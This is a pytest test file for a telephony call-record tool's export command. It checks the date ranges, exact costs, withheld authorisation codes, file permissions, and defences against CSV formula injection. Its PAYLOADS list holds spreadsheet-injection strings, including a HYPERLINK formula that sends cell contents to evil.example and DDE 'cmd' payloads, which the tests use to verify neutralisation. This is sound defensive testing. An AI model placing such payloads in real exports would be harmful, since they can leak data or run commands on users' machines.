"""``smdrd export``: calls of a time range, every column, exact costs, as CSV or JSON lines.

Data goes in through ``smdrd import`` (the daemon's own pipeline, with a tariff), comes out through the real
command line (see `tests.test_backup.CLI`), and is compared with the database row for row.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from smdrd.testing import config_toml, daemon_config
from tests.test_backup import smdrd
from tests.test_daemon import LINE

#: one tariff rule, so exported calls carry a cost.
TARIFF = {"currency": "PLN", "decimals": 2, "rules": [
    {"name": "PL mobile", "prefixes": ["486"], "rate": "0.1", "billing_unit": 60, "connection_fee": "0.015"}]}

#: (local start time in Europe/Warsaw, call id): the boundaries of the range tested sit on both ends.
CALLS = [
    ("2017/07/01 23:59:59", 1),
    ("2017/07/02 00:00:00", 2),   # first second of --from: included
    ("2017/07/02 12:00:00", 3),
    ("2017/07/03 23:59:59", 4),   # last second before --to: included
    ("2017/07/04 00:00:00", 5),   # --to itself: excluded
    ("2017/07/05 08:00:00", 6),
]


#: the authorisation code call 3 was made with (Avaya IP Office's field 19): a credential.
AUTH_CODE = "48151"


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("export")
    db = folder / "smdrd.db"
    config = folder / "smdrd.toml"
    config.write_text(config_toml(daemon_config(folder, tariff=TARIFF)))  # the database: folder/smdrd.db
    feed = folder / "feed.txt"
    text = "".join(start + LINE.format(id=call_id).removeprefix("2017/07/01 08:30:22")
                   .replace(",Line 5.0,0,0,,,", f",Line 5.0,0,0,{'1,' + AUTH_CODE if call_id == 3 else ','},")
                   + "\r\n" for start, call_id in CALLS)
    feed.write_text(text)
    proc = subprocess.run([sys.executable, "-m", "smdrd", "import", "-q", "-f", "avaya-ipo", "--config",
                           str(config), str(feed)], capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stderr
    return db, config


def table(db: Path, where: str = "") -> tuple[list[str], list[tuple[object, ...]]]:
    conn = sqlite3.connect(db)
    try:
        cur = conn.execute(f"SELECT * FROM calls {where} ORDER BY start_utc, id")
        return [d[0] for d in cur.description], cur.fetchall()
    finally:
        conn.close()


def test_csv_has_every_column_and_the_range_is_from_included_to_excluded(database: tuple[Path, Path]) -> None:
    """A spreadsheet user gets exactly the calls of 2 and 3 July (local time), every column, and the cost."""
    db, config = database
    proc = smdrd("export", "--config", config, "--from", "2017-07-02", "--to", "2017-07-04", "--format", "csv",
                 check=True)
    rows = list(csv.reader(io.StringIO(proc.stdout, newline="")))
    names, stored = table(db)
    exported = [n for n in names if n != "auth_code"]  # a credential: only with --include-auth-codes
    assert rows[0] == [*exported[:exported.index("cost_micros") + 1], "cost",
                       *exported[exported.index("cost_micros") + 1:]]
    got = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["call_id"] for r in got] == ["2", "3", "4"]
    by_id = {str(row[names.index("call_id")]): dict(zip(names, row, strict=True)) for row in stored}
    for r in got:
        want = by_id[r["call_id"]]
        for name in exported:
            assert r[name] == ("" if want[name] is None else str(want[name])), name


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_authorisation_codes_leave_only_when_asked(database: tuple[Path, Path], fmt: str) -> None:
    db, config = database
    _, stored = table(db, "WHERE auth_code <> ''")
    assert len(stored) == 1, "the fixture's call 3 carries a code"
    plain = smdrd("export", "--config", config, "--format", fmt, check=True).stdout
    assert AUTH_CODE not in plain and "auth_code" not in plain
    asked = smdrd("export", "--config", config, "--format", fmt, "--include-auth-codes", check=True).stdout
    assert AUTH_CODE in asked and "auth_code" in asked


def test_cost_is_the_exact_decimal_of_cost_micros(database: tuple[Path, Path]) -> None:
    """61 s at 0.1 a started minute plus a 0.015 fee is 0.215, rounded once to 0.22: exported as "0.22",
    never as a float such as 0.22000000000000003."""
    _, config = database
    proc = smdrd("export", "--config", config, "--format", "jsonl", check=True)
    objs = [json.loads(line) for line in proc.stdout.splitlines()]
    assert len(objs) == len(CALLS)
    for obj in objs:
        assert obj["cost_micros"] == 220_000
        assert obj["cost"] == "0.22"
        assert Decimal(obj["cost"]) * 1_000_000 == obj["cost_micros"]
        assert obj["currency"] == "PLN" and obj["rule"] == "PL mobile"


def test_jsonl_has_typed_values_and_the_extra_object(database: tuple[Path, Path]) -> None:
    db, config = database
    proc = smdrd("export", "--config", config, "--from", "2017-07-05", "--format", "jsonl", check=True)
    (obj,) = [json.loads(line) for line in proc.stdout.splitlines()]
    names, stored = table(db, "WHERE call_id = '6'")
    want = dict(zip(names, stored[0], strict=True))
    assert set(obj) == {*names, "cost"} - {"auth_code"}
    assert obj["answered"] is True
    assert isinstance(obj["extra"], dict) and obj["extra"] == json.loads(str(want["extra"]))
    assert obj["start"] == want["start"] == "2017-07-05T08:00:00+02:00"
    assert obj["id"] == want["id"] and obj["duration"] == 61


def test_times_with_an_offset_are_taken_as_written(database: tuple[Path, Path]) -> None:
    """2017-07-01T22:00Z is midnight in Warsaw: the same range as the local date."""
    _, config = database
    proc = smdrd("export", "--config", config, "--from", "2017-07-01T22:00:00+00:00", "--to",
                 "2017-07-02T00:00:01+02:00", "--format", "jsonl", check=True)
    assert [json.loads(line)["call_id"] for line in proc.stdout.splitlines()] == ["2"]


def test_output_file_is_written_whole(database: tuple[Path, Path], tmp_path: Path) -> None:
    _, config = database
    out = tmp_path / "calls.csv"
    proc = smdrd("export", "--config", config, "--output", out, check=True)
    assert "6 calls written" in proc.stderr
    assert len(out.read_text().splitlines()) == 1 + len(CALLS)
    assert list(tmp_path.iterdir()) == [out], "no temporary file is left behind"


def test_a_bad_time_or_database_is_named(database: tuple[Path, Path], tmp_path: Path) -> None:
    _, config = database
    proc = smdrd("export", "--config", config, "--from", "yesterday")
    assert proc.returncode != 0 and "'yesterday'" in proc.stderr and "2026-03-01" in proc.stderr
    proc = smdrd("export", "--database", tmp_path / "missing.db")
    assert proc.returncode != 0 and "missing.db" in proc.stderr
    assert not (tmp_path / "missing.db").exists()


#: A PBX no plugin knows (`custom`), whose extension, number, trunk and account columns carry what a SIP
#: trunk's caller ID can: spreadsheet formulas (issue 11, finding 3).
HOSTILE_CONFIG = """
[site]
timezone = "UTC"
country = "GB"
[database]
path = "{db}"
[[sources]]
name = "branch"
kind = "file"
format = "custom"
path = "-"
[sources.format_options]
type = "csv"
columns = ["date", "time", "extension", "number", "trunk", "account", "duration"]
date_format = "%Y-%m-%d"
duration_format = "seconds"
direction = {{ internal_max_digits = 4 }}
"""

PAYLOADS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\uff1d1+2", " =1+2"]


def _csv_line(*cells: str) -> str:
    return ",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\r\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "smdrd.db"
    config = folder / "smdrd.toml"
    config.write_text(HOSTILE_CONFIG.format(db=db))
    feed = folder / "branch.csv"
    lines = [_csv_line("2026-03-02", f"10:{i:02d}:00", p, PAYLOADS[-1 - i], p, PAYLOADS[i - 1], "60")
             for i, p in enumerate(PAYLOADS)]
    lines.append(_csv_line("2026-03-02", "11:00:00", "201", "+442071234567", "T1", "-12.50", "60"))
    feed.write_text("".join(lines))
    proc = subprocess.run([sys.executable, "-m", "smdrd", "import", "-q", "-f", "custom", "--source", "branch",
                           "--config", str(config), str(feed)], capture_output=True, text=True, timeout=60,
                          check=False)
    assert proc.returncode == 0, proc.stderr
    _, stored = table(db)
    assert len(stored) == len(PAYLOADS) + 1
    return db, config


def test_csv_neutralises_formulas_and_keeps_numbers(hostile: tuple[Path, Path]) -> None:
    """Every payload in extension, number, trunk and account leaves with a leading quote and nothing else
    changed; the dialled +442071234567 and the account -12.50 stay exactly as stored."""
    db, config = hostile
    proc = smdrd("export", "--config", config, check=True)
    rows = list(csv.reader(io.StringIO(proc.stdout, newline="")))
    names, stored = table(db)
    for got, want in zip(rows[1:], stored, strict=True):
        record = dict(zip(rows[0], got, strict=True))
        for name in ("extension", "number", "trunk", "account"):
            value = str(dict(zip(names, want, strict=True))[name])
            assert record[name] == (value if value in ("201", "T1", "+442071234567", "-12.50") else "'" + value)
    cells = [c for row in rows for c in row]
    assert "+442071234567" in cells and "-12.50" in cells
    assert not [c for c in cells if c.lstrip()[:1] in set("=+-@\uff1d") and c not in ("+442071234567", "-12.50")]
    # JSON lines are data for programs, not a spreadsheet: they keep exactly what the PBX sent
    proc = smdrd("export", "--config", config, "--format", "jsonl", check=True)
    extensions = [json.loads(line)["extension"] for line in proc.stdout.splitlines()]
    assert extensions == [row[names.index("extension")] for row in stored]
    assert {*PAYLOADS[:-1], "201"} == set(extensions)  # " =1+2" is stored stripped, as "=1+2"


@pytest.mark.parametrize("umask", [0o000, 0o022])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_output_file_is_private_whatever_the_umask(hostile: tuple[Path, Path], tmp_path: Path, umask: int,
                                                   fmt: str) -> None:
    """An export holds every call: the file is 0600 under any umask, also when it replaces a 0644 file."""
    _, config = hostile
    out = tmp_path / f"calls.{fmt}"
    out.write_text("old")
    out.chmod(0o644)
    proc = subprocess.run([sys.executable, "-m", "smdrd", "export", "--config", str(config), "--format", fmt,
                           "--output", str(out)], capture_output=True, text=True, timeout=60, check=False, umask=umask)
    assert proc.returncode == 0, proc.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert f"{len(PAYLOADS) + 1} calls written" in proc.stderr
    assert list(tmp_path.iterdir()) == [out], "no temporary file is left behind"
